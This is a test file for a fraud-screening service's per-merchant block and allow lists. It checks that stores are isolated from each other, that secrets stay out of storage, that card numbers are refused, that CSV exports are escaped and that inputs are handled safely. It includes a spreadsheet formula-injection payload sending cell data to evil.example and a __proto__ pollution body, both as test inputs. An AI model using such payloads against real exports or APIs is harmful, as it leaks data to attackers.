import { readdirSync, readFileSync } from 'node:fs'
import { join } from 'node:path'
import type { Assessment } from '#contract/assessment.ts'
import type { ListImport, ListItem, ListItems } from '#contract/lists.ts'
import type { NewMerchant } from '../merchants/service.ts'
import { jobsOf } from '../../worker.ts'
import { openTestHouse, send, type TestHouse } from '../../testing/house.ts'

let house: TestHouse
let shop: NewMerchant
let other: NewMerchant
beforeAll(async () => {
  house = await openTestHouse({ logLevel: 'trace' })
  shop = await house.createMerchant('Shop')
  other = await house.createMerchant('Other')
})
afterAll(() => house.remove())

const as = (merchant: NewMerchant) => (method: 'GET' | 'POST' | 'PATCH', path: string, body?: unknown) =>
  send(house, { method, path: `/v1/lists${path}`, body, keys: merchant.live })
const mine = (...call: Parameters<ReturnType<typeof as>>) => as(shop)(...call)

let orders = 0
const order = async (merchant: NewMerchant, address: string): Promise<Assessment> => {
  orders += 1
  const body = { order: { id: `list-${orders}`, amount: 5_000, currency: 'EUR' }, email: { address } }
  return (await send(house, { path: '/v1/assessments', body, keys: merchant.live })).body as Assessment
}

test('a list decides for its own store alone, and its hits are counted from the outbox', async () => {
  const { body } = await mine('POST', '', { list: 'block', kind: 'email', value: 'ring@shop.example' })
  await mine('POST', '', { list: 'watch', kind: 'email', value: 'watched@shop.example' })
  const { id } = body as ListItem
  const blocked = await order(shop, 'ring@shop.example')
  expect(blocked).toMatchObject({ decision: 'decline', decided_by: { type: 'list' } })
  expect(await order(other, 'ring@shop.example')).toMatchObject({ decided_by: { type: 'score' } })
  const watched = await order(shop, 'watched@shop.example')
  expect(watched.decided_by.type).toBe('score')
  expect(watched.reasons.map(({ code, points }) => [code, points])).toContainEqual(['LIST_WATCH', 0])
  const fold = jobsOf(house, house.services).find(({ name }) => name === 'fold-verdicts')
  await fold?.run()
  expect((await mine('GET', `/${id}`)).body).toMatchObject({ hits: 1, last_hit_at: blocked.created_at })
  const replayed = await send(house, { path: `/v1/assessments/${blocked.id}/replay`, keys: shop.live })
  expect(replayed.body).toMatchObject({ match: true })
})

test('allow stands above block', async () => {
  await mine('POST', '', { list: 'block', kind: 'email_domain', value: 'both.example' })
  await mine('POST', '', { list: 'allow', kind: 'email', value: 'good@both.example' })
  expect(await order(shop, 'good@both.example')).toMatchObject({ decision: 'approve', decided_by: { type: 'list' } })
  expect(await order(shop, 'bad@both.example')).toMatchObject({ decision: 'decline', decided_by: { type: 'list' } })
})

test('no list of one store can be met, searched, listed or exported by another', async () => {
  expect((await as(other)('GET', '')).body).toMatchObject({ data: [] })
  const found = await as(other)('POST', '/search', { kind: 'email', value: 'ring@shop.example' })
  expect(found.body).toMatchObject({ data: [] })
  expect((await as(other)('GET', '/export')).text.trim().split('\n')).toHaveLength(1)
})

test('another store cannot name our orders, and a reference of ours is nobody for it', async () => {
  const { id } = await order(shop, 'named@shop.example')
  expect((await as(other)('POST', '', { list: 'block', kind: 'email', assessment_id: id })).status).toBe(404)
  const { body } = await mine('POST', '/search', { kind: 'email', value: 'ring@shop.example' })
  const [item] = (body as ListItems).data
  await as(other)('POST', '', { list: 'block', kind: 'email', ref: item?.ref })
  expect(await order(other, 'ring@shop.example')).toMatchObject({ decided_by: { type: 'score' } })
})

const filesOf = (folder: string): string =>
  readdirSync(folder, { withFileTypes: true })
    .filter((entry) => entry.isFile())
    .map(({ name }) => readFileSync(join(folder, name), 'latin1'))
    .join('')

test('nothing raw is at rest or in a log: neither values nor reasons nor lines of a file', async () => {
  const named = { list: 'block', kind: 'email', value: 'markerone@secret-list.example', reason: 'markertwo wrote us' }
  await mine('POST', '', named)
  const { body } = await mine('POST', '/imports', { name: 'file.csv' })
  const { id } = body as ListImport
  const csv =
    'list,kind,value,reason\nblock,email,markerthree@secret-list.example,markerfour\nblock,email,markerfive,x\n'
  await mine('POST', `/imports/${id}/parts`, { first_line: 2, csv })
  await mine('POST', '/search', { kind: 'email', value: 'markersix@secret-list.example' })
  const seen = filesOf(house.folder) + house.logged.join('')
  for (const marker of ['markerone', 'markertwo', 'markerthree', 'markerfour', 'markerfive', 'markersix']) {
    expect([marker, seen.includes(marker)]).toEqual([marker, false])
  }
})

test.each([
  ['a value', { list: 'block', kind: 'card', value: '4111111111111111' }],
  ['a reason', { list: 'block', kind: 'email', value: 'a@shop.example', reason: 'paid by 4111 1111 1111 1111' }],
  [
    'a field nobody declared',
    { list: 'block', kind: 'email', value: 'a@shop.example', note: { deep: '4111111111111111' } },
  ],
])('a card number as %s is refused and not kept', async (_, body) => {
  expect((await mine('POST', '', body)).body).toMatchObject({ code: 'card_number_refused' })
  expect(filesOf(house.folder)).not.toContain('4111111111111111')
})

test('a card number in a file is a line that is not taken', async () => {
  const started = (await mine('POST', '/imports', { name: 'cards.csv', list: 'block', kind: 'card' }))
    .body as ListImport
  const csv = 'value,reason\n4111111111111111,stolen\npm_9f,seen with 4111111111111111\npm_8e,fine\n'
  const { body } = await mine('POST', `/imports/${started.id}/parts`, { first_line: 2, csv })
  expect(body).toMatchObject({ added: 1, refused: 2 })
})

test('what a spreadsheet would run goes out as text', async () => {
  const reason = '=HYPERLINK("https://evil.example?"&A1,"open")'
  await mine('POST', '', { list: 'block', kind: 'email', value: 'cell@shop.example', reason })
  const line = (await mine('GET', '/export')).text.split('\r\n').find((text) => text.includes('HYPERLINK'))
  expect(line).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""open"")"`)
})

test('names of prototypes are names like others', async () => {
  const poisoned =
    '{"list":"block","kind":"email","value":"p@shop.example","__proto__":{"list":"allow"},"constructor":1}'
  const added = await send(house, { path: '/v1/lists', body: poisoned, keys: shop.live })
  expect(added.body).toMatchObject({ list: 'block' })
  const started = (await mine('POST', '/imports', { name: 'p.csv', kind: 'email', list: 'watch' })).body as ListImport
  const csv = '__proto__,constructor,value,hasOwnProperty\nallow,x,proto@shop.example,y\n'
  const { body } = await mine('POST', `/imports/${started.id}/parts`, { first_line: 2, csv })
  expect(body).toMatchObject({ added: 1, refused: 0 })
  expect(({} as { list?: string }).list).toBeUndefined()
})

test('a part larger than a request may be is refused before it is read', async () => {
  const started = (await mine('POST', '/imports', { name: 'big.csv', list: 'watch', kind: 'email' })).body as ListImport
  const csv = `value\n${'x'.repeat(59_990)}`
  const most = await mine('POST', `/imports/${started.id}/parts`, { first_line: 2, csv: `${csv}yyyyyy` })
  expect(most.body).toMatchObject({ code: 'validation_failed' })
  const beyond = await mine('POST', `/imports/${started.id}/parts`, { first_line: 2, csv: 'x'.repeat(70_000) })
  expect(beyond.status).toBe(413)
})
